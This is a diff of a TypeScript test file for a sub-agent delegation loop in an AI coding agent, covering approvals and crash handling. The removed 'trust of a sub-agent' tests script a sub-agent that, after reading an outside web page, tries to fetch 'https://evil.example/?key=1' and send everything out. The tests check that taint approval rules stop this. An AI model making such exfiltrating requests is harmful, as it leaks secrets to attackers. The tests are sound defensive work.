@@ -1,74 +1,19 @@
-import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { AGENT_ROLES, type AgentRole } from '../../src/domain/session/events.ts';
-import type { ModelFailure, ModelReply } from '../../src/kernel/ports/model.ts';
-import type { Tool } from '../../src/kernel/ports/tool.ts';
-import { defaultDelegationSettings, delegationWith } from '../../src/phases/act/loop/delegate.ts';
-import type { LoopPorts } from '../../src/phases/act/loop/loop-ports.ts';
+import { AGENT_ROLES } from '../../src/domain/session/events.ts';
 import { ROLE_TOOLS } from '../../src/phases/act/loop/roles.ts';
-import { defaultAskSettings } from '../../src/phases/ask.ts';
-import { defaultRoleSettings } from '../../src/prompt/compose-records.ts';
-import { explainLine, findLine } from '../../src/prompt/manifest.ts';
-import { parseTemplate } from '../../src/prompt/template.ts';
-import { answers, asks, done, loopStory, toolOf } from './loop-story.ts';
+import { runLoop } from '../../src/phases/act/loop/run-loop.ts';
+import {
+  all,
+  delegation,
+  end,
+  found,
+  gives,
+  reports,
+  delegateStory as story,
+  use,
+} from './delegate-story.ts';
+import { answers, asks, done, harmless, toolOf } from './loop-story.ts';
 import { failing } from './model-story.ts';
-
-const read = (name: string) => parseTemplate(readFileSync(`prompts/${name}.md`, 'utf8'));
-const delegation = delegationWith({
-  templates: {
-    builder: read('builder'),
-    researcher: read('researcher'),
-    reviewer: read('reviewer'),
-  },
-  ...{ asking: defaultAskSettings, records: defaultRoleSettings },
-  settings: defaultDelegationSettings,
-});
-
-const gives = (role: AgentRole, task = 'the part') => ({ name: 'delegate', input: { role, task } });
-const found = { summary: 'it is so', findings: ['a.md:1'], succeeded: true, learned: [] };
-const reports = (change: Partial<Record<keyof typeof found, unknown>> = {}) =>
-  asks({ name: 'report', input: { ...found, ...change } });
-const end = asks({ name: 'report', input: done });
-const use = (name: string, input: unknown = {}) => asks({ name, input });
-
-const all = () => [
-  ...[
-    'read_file',
-    'list_files',
-    'search_files',
-    'recall',
-    'git_status',
-    'git_diff',
-    'add_task',
-  ].map((name) => toolOf({ name, reach: 'look' })),
-  ...['write_file', 'edit_file', 'git_commit'].map((name) => toolOf({ name })),
-  ...['web_search', 'web_read', 'http_fetch'].map((name) => toolOf({ name, reach: 'network' })),
-  toolOf({ name: 'shell', reach: 'shell' }),
-  toolOf({ name: 'http_send', reach: 'send' }),
-];
-
-async function story(
-  given: {
-    readonly tools?: readonly Tool[];
-    readonly replies: readonly (ModelReply | ModelFailure)[];
-  },
-  change: Partial<LoopPorts> = {},
-) {
-  const told = await loopStory({ tools: all(), ...given }, change);
-  const runs = { count: 0 };
-  return {
-    ...told,
-    run: (more: Parameters<typeof told.run>[0] = {}) => {
-      runs.count += 1;
-      return told.run({ name: `tool-17-${runs.count}`, delegation, ...more });
-    },
-    /** What the model that was asked so many times before was shown. */
-    shown: (request: number) => told.story.requests[request]?.messages[0]?.text ?? '',
-    result: (request: number) => told.story.requests[request]?.messages.at(-1)?.toolResults?.[0],
-    offered: (request: number) =>
-      (told.story.requests[request]?.tools ?? []).map(({ name }) => name),
-  };
-}
 
 describe('a task given to a sub-agent', () => {
   it('is done in a conversation of its own, and its report comes back', async () => {
@@ -164,57 +109,6 @@ describe('a task given to a sub-agent', () => {
   });
 });
 
-describe('the trust of a sub-agent', () => {
-  const page = toolOf({
-    ...{ name: 'web_read', reach: 'network', trust: 'outside' },
-    text: 'see https://good.example/next',
-  });
-  const get = () =>
-    toolOf({
-      ...{ name: 'http_fetch', reach: 'network' },
-      touches: (input) => ({
-        requests: [{ url: (input as { url: string }).url, method: 'GET', bodyBytes: 0 }],
-      }),
-    });
-  const fetches = (url: string) => ({ name: 'http_fetch', input: { url } });
-
-  it('falls with what it reads, and whoever asked falls with it', async () => {
-    const http = get();
-    const { run, result, approvals } = await story({
-      tools: [page, http, toolOf({ name: 'send', reach: 'send' })],
-      replies: [
-        ...[asks(gives('researcher')), use('web_read'), reports()],
-        asks(fetches('https://good.example/next'), fetches('https://evil.example/?key=1'), {
-          name: 'send',
-          input: 'all',
-        }),
-        end,
-      ],
-    });
-    expect(await run()).toMatchObject({ trust: 'outside' });
-    expect(result(3)?.text).toContain('<<outside');
-    // What was read inside was read; what the report makes up was not.
-    expect(http.runs).toEqual([{ url: 'https://good.example/next' }]);
-    expect((await approvals()).map(({ rule }) => rule)).toEqual(['taint.address', 'taint.send']);
-  });
-
-  it('begins where the turn stands that asks, and a task makes no address known', async () => {
-    const http = get();
-    const evil = 'https://evil.example/?key=1';
-    const { run, approvals } = await story({
-      tools: [page, http],
-      replies: [
-        ...[use('web_read'), asks(gives('researcher', `read ${evil}`))],
-        ...[asks(fetches(evil)), reports(), end],
-      ],
-    });
-    const { parked } = await run();
-    expect(http.runs).toEqual([]);
-    expect(parked).toEqual(['tool-17-1-2-1-researcher-1-1']);
-    expect(await approvals()).toMatchObject([{ rule: 'taint.address', work_id: 'task:w' }]);
-  });
-});
-
 describe('a stop', () => {
   it('lets nothing begin after it, neither inside nor around', async () => {
     let stop: () => Promise<void> = async () => undefined;
@@ -237,66 +131,38 @@ describe('a stop', () => {
   });
 });
 
-describe('what a role has learned', () => {
-  const learns = reports({ learned: ['run the tests with --all', ' '] });
-
-  it('stands in its next prompt with where it comes from, and in no other role', async () => {
-    const {
-      run,
-      shown,
-      story: log,
-      payloads,
-    } = await story({
-      replies: [
-        ...[asks(gives('builder')), learns, end],
-        ...[asks(gives('builder'), gives('reviewer')), reports(), reports(), end],
-      ],
+describe('an action inside a sub-agent', () => {
+  it('that waits for the owner makes the work wait, and is done at their word', async () => {
+    const send = toolOf({ name: 'shell', reach: 'shell' });
+    const mail = { name: 'shell', input: { command: 'publish' } };
+    const given = [asks(gives('builder')), asks(mail), answers({ ...harmless, passed: false })];
+    const told = await story({
+      tools: [send],
+      replies: [...given, reports(), end, asks(gives('builder')), asks(mail), reports(), end],
     });
-    await run();
-    const [updated, ...others] = (await log.events()).filter(
-      ({ type }) => type === 'AgentMemoryUpdated',
-    );
-    expect(others).toEqual([]);
-    expect(updated?.trust).toBe('self');
-    expect(updated?.subjects).toContain('role:builder');
-    const runIds = (await payloads('AgentRunCompleted')).map(({ run_id }) => run_id);
-    expect(runIds).toContain((await payloads('AgentMemoryUpdated'))[0]?.['source_run']);
-    await run();
-    expect(shown(4)).toContain('run the tests with --all');
-    expect(shown(5)).not.toContain('run the tests');
-    const manifest = (await payloads('PromptAssembled'))[3] as { blob: string; sections: [] };
-    const [line] = findLine(manifest, log.blobs.texts.get(manifest.blob) ?? '', 'with --all');
-    expect(explainLine(manifest, line?.line ?? 0)).toEqual([updated?.eventId]);
+    const { parked } = await told.run();
+    expect(parked).toEqual(['tool-17-1-1-1-builder-1-1']);
+    const [asked] = await told.approvals();
+    const approval = { approval_id: asked?.approval_id, work_id: 'task:w', by: 'owner' };
+    const expires_at = '2027-01-01T00:00:00.000Z';
+    await told.story.given({ type: 'ApprovalGranted', payload: { ...approval, expires_at } });
+    const record = { name: 'shell', fields: { answer: 'granted' }, eventIds: ['e'] as const };
+    expect((await told.run({ answers: [record] })).parked).toEqual([]);
+    expect(send.runs).toEqual([mail.input]);
+    expect(told.shown(6)).toContain('"answer":"granted"');
   });
 
-  it('in a turn that read from outside comes back as data, and only to such a turn at once', async () => {
-    const page = toolOf({ name: 'web_read', reach: 'network', trust: 'outside', text: 'page' });
-    const {
-      run,
-      shown,
-      story: log,
-      result,
-      payloads,
-    } = await story({
-      tools: [page],
-      replies: [
-        ...[asks(gives('researcher')), use('web_read'), learns, end],
-        ...[asks(gives('researcher')), use('read_notes'), reports(), end],
-        ...[use('web_read', 'again'), asks(gives('researcher')), reports(), end],
-      ],
-    });
-    await run();
-    const [updated] = (await log.events()).filter(({ type }) => type === 'AgentMemoryUpdated');
-    expect(updated?.trust).toBe('outside');
-    expect(await run()).toMatchObject({ trust: 'outside' });
-    expect(shown(5)).not.toContain('run the tests');
-    expect(shown(5)).toContain('"notes_from_outside":1');
-    expect((await payloads('PromptAssembled'))[3]?.['dropped']).toMatchObject([
-      { name: 'apart:researcher-1' },
-    ]);
-    expect(result(6)?.text).toMatch(/<<outside \w+\n\| - run the tests/);
-    await run();
-    expect(shown(10)).toMatch(/<<outside \w+ \| \{"note":"run the tests with --all"\} \|/);
-    expect(shown(10)).not.toContain('notes_from_outside');
+  it('that nobody saw end stays open, and the loop around does not go on', async () => {
+    const told = await story({ replies: [asks(gives('builder')), use('write_file'), end] });
+    const context = {
+      ...told.context,
+      crashPoint: (name: string) => {
+        if (name === 'tool:ran') throw new Error('gone');
+      },
+    };
+    const task = { ...told.task, delegation };
+    await expect(runLoop(context, told.ports, task)).rejects.toThrow('gone');
+    expect(told.story.requests).toHaveLength(2);
+    expect(await told.story.openEffects()).toBe(1);
   });
 });
